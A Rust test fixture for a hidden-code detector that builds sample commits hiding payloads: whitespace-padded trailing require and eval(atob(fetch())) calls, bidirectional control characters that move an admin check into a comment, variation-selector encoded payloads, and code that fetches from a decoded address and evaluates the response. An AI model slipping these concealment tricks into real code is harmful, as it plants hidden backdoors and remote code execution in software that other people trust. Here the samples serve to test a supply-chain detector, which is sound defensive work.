//! Histories for `hidden-code`.

use crate::testing::{At, Case, DAY, Expect, Story, Who, account, own};
use countersign_facts::Account;

const ADA: Who = Who("Ada Example", "7001+adaex@users.noreply.github.com");
const BEA: Who = Who("Bea Sample", "bea@mail.example");

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a pull request continues a line far to the right",
        expect: Expect::Fires,
        story: pushed,
    },
    Case {
        name: "control characters move a condition into a comment",
        expect: Expect::Fires,
        story: reordered,
    },
    Case {
        name: "variation selectors spell a payload",
        expect: Expect::Fires,
        story: smuggled,
    },
    Case {
        name: "code decodes an address, fetches from it and evaluates the answer",
        expect: Expect::Fires,
        story: encoded,
    },
    Case {
        name: "emoji, Persian, Hindi and Hebrew in strings and comments",
        expect: Expect::Quiet,
        story: scripts,
    },
    Case {
        name: "minified, generated and translated files",
        expect: Expect::Quiet,
        story: generated,
    },
    Case {
        name: "a test of invisible characters",
        expect: Expect::Quiet,
        story: test,
    },
    Case {
        name: "deep indentation and frames",
        expect: Expect::Quiet,
        story: indented,
    },
    Case {
        name: "a client that decodes what it fetches",
        expect: Expect::Quiet,
        story: client,
    },
    Case {
        name: "nobody looked at what commits change",
        expect: Expect::Silent,
        story: unlooked,
    },
];

const NOW: At = At::exact(3, 12, 0, 120);

fn at(day: i64) -> At {
    At::local(day, 10, 0, 120)
}

fn ada() -> Account {
    account(7001, "adaex", at(-900))
}

fn adds(story: &mut Story, path: &str, text: &str) {
    let commit = story.add(own(ADA, at(1)));
    story.adds(commit, path, text);
}

fn pushed(story: &mut Story) {
    story.old_repository(BEA);
    let commit = story.add(own(ADA, at(1)));
    let line = format!("module.exports = api;{}require('./font')", " ".repeat(300));
    story.adds(commit, "server/index.js", &line);
    story.pull(ada(), &[commit], &["server/index.js"], NOW);
}

fn reordered(story: &mut Story) {
    let line = "/* admins only \u{202e} } \u{2066}if (is_admin)\u{2069} \u{2066} begin */";
    adds(story, "src/access.c", line);
}

fn smuggled(story: &mut Story) {
    let payload: String = ('\u{fe00}'..='\u{fe0f}').cycle().take(200).collect();
    adds(story, "src/index.ts", &format!("run(decode(`{payload}`));"));
}

fn encoded(story: &mut Story) {
    let code = "const url = atob(process.env.SESSION);\nconst { data } = await axios.get(url);\nnew \
                Function('require', data.cookie)(require);";
    adds(story, "server/auth.js", code);
}

fn scripts(story: &mut Story) {
    let code = "say('👨\u{200d}👩\u{200d}👧 ❤\u{fe0f}'); // 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}\n\
                say('می\u{200c}خواهم', 'क्\u{200d}ष');\n// \u{202b}שלום עולם\n\
                label = '\u{2068}%s\u{2069}';\nconst 名前 = 'José';";
    adds(story, "src/greetings.js", code);
}

fn generated(story: &mut Story) {
    let line = format!("a();{}eval(atob(fetch(b)))", " ".repeat(300));
    let commit = story.add(own(ADA, at(1)));
    for path in [
        "dist/app.js",
        "vendor/a.js",
        "web/lib.min.js",
        "src/locales/fa.js",
        "api.pb.go",
    ] {
        story.adds(commit, path, &line);
    }
}

fn test(story: &mut Story) {
    adds(
        story,
        "src/strip.test.js",
        "expect(strip('a\u{200b}b\u{202e}')).toBe('ab')",
    );
}

fn indented(story: &mut Story) {
    let code = format!("{}deep();\n#define A{}\\", "\t".repeat(24), " ".repeat(250));
    adds(story, "src/tree.h", &code);
}

fn client(story: &mut Story) {
    let code = "const body = atob(await fetch(url));\nreturn JSON.parse(body);";
    adds(story, "src/client.js", code);
}

fn unlooked(story: &mut Story) {
    story.every(DAY, 3, ADA, at(0));
}
